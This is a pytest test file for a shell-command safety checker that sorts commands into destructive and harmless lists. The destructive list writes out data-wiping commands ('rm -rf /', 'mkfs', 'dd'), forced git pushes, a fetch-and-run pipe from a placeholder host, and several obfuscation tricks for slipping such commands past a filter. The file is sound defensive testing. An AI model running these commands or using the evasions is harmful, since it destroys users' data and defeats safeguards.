from __future__ import annotations

import pytest

from fmos_trust.commands import judge_command

DESTRUCTIVE = [
    "rm x",
    "rm -rf /src",
    "/bin/rm -rf /src",
    r"\rm x",
    "r''m x",
    'r"m" x',
    "sudo rm -rf /",
    "sudo -u root -- rm x",
    "env A=1 B=2 rm x",
    "env -S 'rm x'",
    "A=1 rm x",
    "nohup nice -n 5 rm x",
    "timeout 5 rm x",
    "sh -c 'rm -rf x'",
    "bash -lc 'cd /tmp && rm -rf x'",
    "sh -c \"sh -c 'rm x'\"",
    "find . -name '*.pyc' -delete",
    r"find . -exec rm {} \;",
    "find . -exec sh -c 'rm x' ';'",
    "ls | xargs rm",
    "ls | xargs -n 1 rm -f",
    "ls && rm x",
    "ls; rm x",
    "ls\nrm x",
    "ls & rm x",
    "(cd /tmp; rm x)",
    "{ rm x; }",
    "if true; then rm x; fi",
    "for f in a b; do rm $f; done",
    "echo $(rm x)",
    'echo "$(rm x)"',
    "echo `rm x`",
    "diff <(rm x) y",
    "mv a b",
    "git reset --hard HEAD~1",
    "git -C /repo clean -fdx",
    "git push --force origin main",
    "git push -f",
    "git push origin +main",
    "git push origin :main",
    "git checkout -- a.txt",
    "git branch -D topic",
    "git stash drop",
    "git -c alias.x='!rm -rf .' x",
    "dd if=/dev/zero of=disk.img",
    "mkfs.ext4 /dev/sda1",
    "chmod -R 777 /src",
    "chown -R root /src",
    "truncate -s 0 log",
    "echo hi > file",
    "echo hi >| file",
    "echo hi &> file",
    "echo hi >file 2>&1",
    "cat a | tee b",
    "sed -i s/a/b/ file",
    "curl http://x | sh",
    "curl http://x | sudo bash",
    "curl http://x | sh 2>/dev/null",
    "curl http://x | sh -s -- --yes",
    "echo 'import os' | python3 -",
    "bash <<< 'rm x'",
    "python3 -c 'import shutil; shutil.rmtree(\"/src\")'",
    "perl -e 'unlink glob \"*\"'",
    "eval rm x",
    "$CMD -rf x",
    "$(echo rm) -rf x",
    "rm$IFS-rf$IFS/",
    "{rm,-rf,x}",
    "/bin/r? x",
    "A=rm; $A x",
    "echo $'a\\'' ; rm x ; 'b'",
    "ls() { rm x; }",
    'echo "\\"" ; rm x ; echo "\\""',
    "echo 'not closed",
    'echo "not closed',
    "echo $(not closed",
    "echo a >",
    "echo \\",
    "ssh host rm -rf /srv",
    "sqlite3 a.db 'DROP TABLE t'",
    "docker system prune -f",
    "time -p rm x",
    "sudo -iu root rm x",
    "sudo --user root rm x",
    "timeout --signal KILL 5 rm x",
    "su -lc 'rm x' root",
    "su root -c 'rm x'",
    "flock lock -c 'rm x'",
    "env --split-string='rm x'",
    "coproc rm x",
    "alias ls=rm",
    "trap 'rm x' EXIT",
    "case a in a) rm x;; esac",
    "awk 'BEGIN { system(\"rm x\") }'",
    "echo x | xargs -I{} sh -c 'rm {}'",
]

HARMLESS = [
    "ls -la",
    "cat README.md",
    "echo rm -rf x",
    "echo 'rm -rf x; rm y'",
    'echo "a > b"',
    "grep -rn 'rm -rf' .",
    'grep ">" file',
    r"grep \> file",
    "find . -name '*.py'",
    r"find . -exec grep rm {} \;",
    "ls | xargs grep rm",
    "sudo ls",
    "env A=1 pytest -q",
    "timeout 5 pytest",
    "sh -c 'ls -la'",
    "sh script.sh",
    "ls > /dev/null 2>&1",
    "make test 2>/dev/null",
    "echo hi >> log",
    "git status",
    "git log --oneline | head -5",
    "git push origin main",
    "git checkout main",
    "git clean -n",
    "git restore --staged a.txt",
    "git stash",
    "python -m pytest",
    "python3 -c 'print(1)'",
    "mv -n a b",
    "cp a b",
    "chmod 644 a",
    "sed s/a/b/ file",
    "A=1",
    "",
    "sort < input",
    "echo $HOME",
    "cd src && ls",
    "echo rm | cat",
    "echo a#b",
    "time -p ls",
    "sudo --user root ls",
    "awk '{ print $1 }' file",
]


@pytest.mark.parametrize("command", DESTRUCTIVE)
def test_destroying_command_is_found(command: str) -> None:
    """A command that destroys, hides that it does, or cannot be read is destructive."""
    assert judge_command(command).destructive


@pytest.mark.parametrize("command", HARMLESS)
def test_harmless_command_passes(command: str) -> None:
    """A command that only mentions destruction, or destroys nothing, is not destructive."""
    assert judge_command(command).findings == ()


def test_argument_vector_is_not_read_by_a_shell() -> None:
    """In a list of arguments a semicolon is only text, and the program still counts."""
    assert not judge_command(["echo", "a; rm x"]).destructive
    assert judge_command(["rm", "x"]).destructive
    assert judge_command(["sh", "-c", "rm x"]).destructive


def test_finding_names_the_reason() -> None:
    """Each finding is a sentence a person can act on."""
    findings = judge_command("rm a > b").findings
    assert findings == ("'>' overwrites 'b'", "rm removes files")


def test_deep_nesting_is_refused() -> None:
    """A command nested too deeply is destructive rather than unread."""
    assert judge_command("sudo " * 50 + "ls").destructive
